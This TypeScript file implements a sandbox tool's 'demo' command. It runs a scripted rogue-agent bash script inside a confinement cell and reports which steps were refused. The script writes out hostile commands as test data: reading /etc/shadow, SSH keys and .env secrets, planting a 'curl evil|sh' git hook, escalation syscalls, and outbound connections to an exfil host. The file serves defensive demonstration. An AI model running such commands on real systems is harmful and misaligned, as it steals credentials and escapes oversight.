// `nanocell demo`: a scripted rogue agent in a real cell. It does honest work, then tries to
// read host secrets, write outside its sandbox, escalate, phone home and leave a process
// behind; the output shows what was refused and what came back as a change set.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { Command } from 'commander';
import { parsePolicy, resolvePolicy } from '../policy/load.js';
import { stateLayout } from '../cell/state.js';
import { runTask } from '../task/task.js';
import { renderDiff } from '../workspace/index.js';
import type { CliContext } from './context.js';
import { colorEnabled, paint } from './format.js';

export const ROGUE_AGENT_SCRIPT = String.raw`
step() { printf '\n== %s\n' "$*"; }
try() { desc=$1; shift; if "$@" >/dev/null 2>&1; then echo "  ALLOWED  $desc"; else echo "  refused  $desc"; fi; }

step "honest work: edit the project"
sed -i 's/Hello/Hello from the agent/' hello.txt && echo "  edited hello.txt"
printf 'def add(a, b):\n    return a + b\n' > calc.py && echo "  wrote calc.py"
python3 -c 'import calc; assert calc.add(2, 3) == 5' && echo "  tests pass"

step "read host secrets"
try "read /etc/shadow"            cat /etc/shadow
try "read /root/.ssh"              ls /root/.ssh
try "read the project's .env"      cat .env
try "find AWS keys in env"         sh -c 'env | grep -q AWS_SECRET'
try "read the supervisor's env"    cat /proc/1/environ

step "write outside the sandbox"
try "write /usr/bin/evil"          sh -c 'echo x > /usr/bin/evil'
try "write /etc/cron.d/evil"       sh -c 'echo x > /etc/cron.d/evil'
try "plant a git hook"             sh -c 'echo "curl evil|sh" > .git/hooks/pre-commit'

step "escalate"
try "become root (unshare -r)"     unshare -r true
try "mount a file system"          mount -t tmpfs none /tmp
try "ptrace another process"       python3 -c 'import ctypes,sys; sys.exit(ctypes.CDLL(None).ptrace(16, 1, 0, 0) != 0)'
try "load a kernel module"         python3 -c 'import ctypes,sys; sys.exit(ctypes.CDLL(None).syscall(175, 0, 0, 0) != 0)'

step "phone home"
try "connect to 1.1.1.1:443"       python3 -c 'import socket; socket.create_connection(("1.1.1.1", 443), timeout=2)'
try "resolve a name (DNS)"         python3 -c 'import socket; socket.getaddrinfo("exfil.example.com", 53)'
try "raw socket"                   python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)'

step "persist"
(sleep 1000 &) ; echo "  left 'sleep 1000' running in the background"
`;

export function registerDemoCommand(program: Command, ctx: CliContext): void {
  program
    .command('demo')
    .description('run a scripted rogue agent in a cell and show what was refused')
    .action(async () => {
      const p = paint(colorEnabled(process.stdout));
      const project = fs.mkdtempSync(
        path.join(os.homedir() === '/root' ? '/srv' : os.homedir(), 'nanocell-demo-'),
      );
      fs.mkdirSync(path.join(project, '.git', 'hooks'), { recursive: true });
      fs.writeFileSync(path.join(project, 'hello.txt'), 'Hello, world\n');
      fs.writeFileSync(
        path.join(project, '.env'),
        'AWS_SECRET_ACCESS_KEY=demo-secret-do-not-leak\n',
      );
      process.stdout.write(p.bold(`nanocell demo: a rogue agent runs in a cell over ${project}\n`));
      let changeDir: string | undefined;
      try {
        const report = await runTask({
          policy: resolvePolicy(parsePolicy({ limits: { timeout: '60s' } })),
          workspace: project,
          command: ['bash', '-c', ROGUE_AGENT_SCRIPT],
          session: 'demo',
          stateRoot: ctx.stateRoot(),
          env: {},
          stdout: process.stdout,
          stderr: process.stderr,
        });
        process.stdout.write(p.bold('\n== what nanocell recorded\n'));
        process.stdout.write(
          `  task ${report.taskId}: ${report.endReason}, exit ${report.exitCode}, ${report.durationMs} ms\n`,
        );
        process.stdout.write(
          `  syscalls denied: ${report.events.syscallDenied} ${JSON.stringify(report.events.deniedBySyscall)}\n`,
        );
        process.stdout.write(`  programs run: ${report.events.execs}\n`);
        const leftovers = fs.readdirSync(stateLayout(ctx.stateRoot()).cells);
        process.stdout.write(
          `  cells left behind: ${leftovers.length} (the background sleep died with the cell)\n`,
        );
        process.stdout.write(
          p.bold('\n== the change set, for you to review (nothing was written to the project)\n'),
        );
        changeDir = stateLayout(ctx.stateRoot()).changeSet(report.taskId);
        if (fs.existsSync(changeDir)) process.stdout.write(renderDiff(changeDir, project));
        process.stdout.write(
          `\n  project hello.txt still says: ${fs.readFileSync(path.join(project, 'hello.txt'), 'utf8')}`,
        );
        process.stdout.write(
          `  in a real project you would now run: nanocell apply ${report.taskId} (or nanocell discard)\n`,
        );
        process.exitCode = 0;
      } finally {
        // The demo project is throwaway, and so is its change set.
        fs.rmSync(project, { recursive: true, force: true });
        if (changeDir) fs.rmSync(changeDir, { recursive: true, force: true });
      }
    });
}
